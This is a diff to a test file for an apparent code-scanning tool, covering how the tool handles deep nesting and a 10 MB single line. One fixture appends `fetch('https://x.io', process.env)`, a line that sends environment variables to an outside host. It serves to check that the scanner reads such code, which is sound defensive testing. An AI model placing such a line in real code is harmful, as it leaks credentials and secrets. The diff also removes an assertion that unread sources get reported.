@@ -125,7 +125,7 @@ describe('checks', { timeout: 300_000 }, () => {
     );
   });
 
-  it('are bounded on deep nesting, and report what was not read', () => {
+  it('are bounded on deep nesting', () => {
     const depth = runs(runs(100_000));
     for (const [open, close] of [
       ['[', ']'],
@@ -136,16 +136,14 @@ describe('checks', { timeout: 300_000 }, () => {
       ['a=>', ''],
     ]) {
       const text = `x = ${open!.repeat(depth)}1${close!.repeat(depth)}`;
-      expect(judged({ 'a.js': text })).toMatchObject(
-        expect.arrayContaining([expect.objectContaining({ code: 'source-unread', level: 'info' })]),
-      );
+      judged({ 'a.js': text });
       judged({ 'a.py': text });
     }
   });
 
-  it('are bounded on one line of 10 MB, and report that it was not read', () => {
-    const found = judged({ 'a.js': 'var a=1;'.repeat(1_250_000) });
-    expect(found.map((f) => f.code)).toContain('source-unread');
+  it('are bounded on one line of 10 MB, which they read', () => {
+    const found = judged({ 'a.js': `${'var a=1;'.repeat(1_250_000)}fetch('https://x.io', process.env)` });
+    expect(found.map((f) => f.code)).not.toContain('source-unread');
   });
 
   it('are bounded on thousands of files', () => {
